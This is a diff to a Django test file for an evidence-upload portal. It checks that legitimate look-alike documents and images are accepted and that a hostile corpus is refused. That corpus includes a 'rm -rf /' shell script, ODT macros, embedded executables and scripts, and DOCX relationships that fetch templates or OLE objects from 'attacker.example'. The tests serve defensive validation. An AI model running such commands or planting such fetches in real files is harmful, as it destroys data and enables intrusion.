@@ -15,6 +15,16 @@ from django.urls import reverse
 from dti_portal.errors import Conflict, ValidationFailed
 from evidence import services
 from evidence.models import EvidenceFile, ReportingPeriod, Submission
+from tests.evidence.hostile_files import (
+    docx_with_rels,
+    jpeg_truncated,
+    odt_basic_macro,
+    odt_like_libreoffice,
+    odt_manifest_script_only,
+    odt_python_script,
+    png_garbage_pixels,
+    png_interlaced,
+)
 from tests.evidence.reporting_factories import (
     docx_bytes,
     encrypted_office_bytes,
@@ -121,6 +131,74 @@ class TestAccepted:
         assert bad.status_code == 400
 
 
+def _png(mode: str, **params) -> bytes:
+    import io
+
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new(mode, (13, 7)).save(buf, "PNG", **params)
+    return buf.getvalue()
+
+
+def _jpeg(mode: str, **params) -> bytes:
+    import io
+
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.effect_noise((640, 480), 40).convert(mode).save(buf, "JPEG", **params)
+    return buf.getvalue()
+
+
+DOCX = "quyet-dinh.docx"
+LOOK_ALIKES = [  # legitimate files close to a hostile sample: each new check keeps them
+    ("van-ban.odt", odt_like_libreoffice()),
+    (DOCX, docx_bytes(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()})),
+    (DOCX, docx_bytes(extra={"word/media/image1.svg": svg_bytes(), "word/media/a.png": b"x"})),
+    (DOCX, docx_bytes(extra={"word/media/image2.emf": b"\x01\x00\x00\x00" + b"\x00" * 80})),
+    (
+        DOCX,
+        docx_with_rels(
+            "word/_rels/document.xml.rels",
+            ("hyperlink", "https://thuvienphapluat.vn/van-ban/922-QD-BTTTT", "External"),
+            ("styles", "styles.xml", ""),
+        ),
+    ),
+    (
+        DOCX,
+        docx_with_rels(
+            "word/_rels/settings.xml.rels",
+            ("attachedTemplate", "file:///C:/Users/CB/Templates/Mau-cong-van.dotx", "External"),
+        ),
+    ),
+    ("anh-xen-ke.png", png_interlaced()),
+    *[(f"anh-{mode}.png", _png(mode)) for mode in ("1", "L", "LA", "P", "RGBA", "I;16")],
+    ("anh-trong-suot.png", _png("P", transparency=0)),
+    *[(f"anh-{mode}.jpg", _jpeg(mode)) for mode in ("L", "RGB", "CMYK")],
+    ("anh-progressive.jpg", _jpeg("RGB", progressive=True)),
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("name", "content"), LOOK_ALIKES)
+def test_legitimate_look_alikes_accepted(draft, user_a, api_as, name, content):
+    if name.endswith(".png"):
+        import io
+
+        from PIL import Image
+
+        Image.open(io.BytesIO(content)).load()  # the sample itself is a valid image
+    resp = upload(api_as(user_a), draft, name, content)
+    assert resp.status_code == 201, resp.content
+    assert EvidenceFile.objects.get().sha256 == hashlib.sha256(content).hexdigest()
+
+
+def _fetching(part: str, kind: str, target: str) -> tuple[str, bytes, str]:
+    rels = docx_with_rels(f"word/_rels/{part}.xml.rels", (kind, target, "External"))
+    return ("quyet-dinh.docx", rels, "bên ngoài")
+
+
 HOSTILE = [
     ("bao-cao.pdf", exe_bytes(), "chương trình"),
     ("bao-cao.pdf", html_bytes(), "HTML"),
@@ -131,12 +209,31 @@ HOSTILE = [
     ("mat-khau.docx", encrypted_office_bytes(), "mật khẩu"),
     ("bao-cao.docx", pdf_bytes(), "không khớp"),
     ("script.sh", b"#!/bin/sh\nrm -rf /\n", "chương trình"),
+    # macros in ODF script folders (LibreOffice runs them)
+    ("van-ban.odt", odt_basic_macro(), "macro"),
+    ("van-ban.odt", odt_python_script(), "macro"),
+    ("van-ban.odt", odt_manifest_script_only(), "macro"),
+    # programs or web pages packed inside, by name or by content
+    ("quyet-dinh.docx", docx_bytes(extra={"word/embeddings/setup.exe": exe_bytes()}), "đóng gói"),
+    ("quyet-dinh.docx", docx_bytes(extra={"word/afchunk.html": html_bytes()}), "đóng gói"),
+    ("quyet-dinh.docx", docx_bytes(extra={"customXml/run.js": "WScript.Run('x')"}), "đóng gói"),
+    ("quyet-dinh.docx", docx_bytes(extra={"word/media/image1.png": exe_bytes()}), "đóng gói"),
+    # relationships fetching from another machine when the file is opened
+    _fetching("settings", "attachedTemplate", "http://attacker.example/t.dotm"),
+    _fetching("document", "oleObject", "https://attacker.example/x.sct"),
+    _fetching("webSettings", "frame", "http://attacker.example/frame.html"),
+    _fetching("settings", "attachedTemplate", "\\\\attacker.example\\share\\t.dotx"),
+    # images whose pixel data does not decode
+    ("anh.png", png_garbage_pixels(), "Ảnh bị hỏng"),
+    ("anh.jpg", jpeg_truncated(), "Ảnh bị hỏng"),
 ]
 
 
 @pytest.mark.django_db
 class TestHostileCorpus:
-    @pytest.mark.parametrize(("name", "content", "fragment"), HOSTILE)
+    @pytest.mark.parametrize(
+        ("name", "content", "fragment"), HOSTILE, ids=[f"{n}-{f}" for n, _c, f in HOSTILE]
+    )
     def test_refused_via_api_nothing_stored(self, draft, user_a, api_as, name, content, fragment):
         resp = upload(api_as(user_a), draft, name, content)
         assert resp.status_code == 400, resp.content
@@ -411,6 +508,27 @@ class TestImmutableAndReuse:
             )
         assert EvidenceFile.objects.filter(submission=b_sub).count() == 0
         assert Submission.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_same_file_twice_in_one_submission_refused(world, draft, user_a, api_as):
+    """The same content (SHA-256) is stored once per submission, whatever its name; another
+    content, or the same content in another submission, is still accepted."""
+    api = api_as(user_a)
+    content = pdf_bytes("Quyet dinh 45")
+    assert upload(api, draft, "Quyết định 45.pdf", content).status_code == 201
+    resp = upload(api, draft, "ban-sao.pdf", content)
+    assert resp.status_code == 400
+    message = resp.json()["file"][0]
+    assert "đã có trong báo cáo" in message and "“Quyết định 45.pdf”" in message
+    assert resp.json()["code"] == "duplicate"
+    assert EvidenceFile.objects.count() == 1 and len(stored_files()) == 1
+    assert upload(api, draft, "ban-sao.pdf", pdf_bytes("Quyet dinh 46")).status_code == 201
+    other = services.submission_create(
+        actor=user_a, indicator=world.yes_no, period=world.period, values={"done": True}
+    )
+    assert upload(api, other, "Quyết định 45.pdf", content).status_code == 201
+    assert EvidenceFile.objects.filter(sha256=hashlib.sha256(content).hexdigest()).count() == 2
 
 
 @pytest.mark.django_db
